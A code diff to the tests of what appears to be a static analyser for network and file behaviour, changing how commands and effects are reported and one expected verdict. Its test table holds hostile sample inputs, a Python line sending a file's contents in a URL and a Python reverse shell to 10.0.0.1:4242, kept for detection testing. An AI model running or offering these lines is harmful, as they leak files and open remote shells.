@@ -1,3 +1,5 @@
+use std::fmt::Write as _;
+
 use super::*;
 use crate::run::Machine;
 use crate::run::testing::line;
@@ -22,11 +24,15 @@ fn judged(language: Language, text: &str) -> String {
     let out = judge(&mut call, language, code);
     let analysis = machine.finish();
     let mut lines: Vec<String> = Vec::new();
-    for ran in &analysis.commands {
+    for ran in analysis.commands.iter().filter(|ran| ran.program != "code") {
         let words: Vec<String> = ran.argv.iter().map(Field::shown).collect();
         lines.push(format!("$ {}", words.join(" ")));
     }
-    lines.extend(analysis.effects.iter().filter(|effect| effect.command.is_none()).map(line));
+    let own = |command: Option<u32>| {
+        let ran = command.and_then(|index| analysis.commands.get(index as usize));
+        ran.is_none_or(|ran| ran.program == "code")
+    };
+    lines.extend(analysis.effects.iter().filter(|effect| own(effect.command)).map(line));
     if let Some(text) = out.text.filter(|text| !text.is_empty()) {
         lines.push(format!("> {}", text.trim_end()));
     }
@@ -38,7 +44,7 @@ fn check(language: Language, table: &[(&str, &str)]) {
     for (code, expected) in table {
         let found = judged(language, code);
         if found != *expected {
-            wrong.push_str(&format!("\n{code}\n  expected {expected}\n  found    {found}\n"));
+            let _ = write!(wrong, "\n{code}\n  expected {expected}\n  found    {found}\n");
         }
     }
     assert!(wrong.is_empty(), "{wrong}");
@@ -185,7 +191,7 @@ fn python_talks_to_the_network() {
             ),
             (
                 "import requests; d = open('k').read(); requests.get('http://h/?q=' + d)",
-                "read read-file /work/k certain | receive http http://h/?q=… certain | send http http://h/?q=… possible <[File(\"/work/k\")]",
+                "read read-file /work/k certain | receive http http://h/?q=… possible | send http http://h/?q=… possible <[File(\"/work/k\")]",
             ),
             (
                 "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('10.0.0.1',4242));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
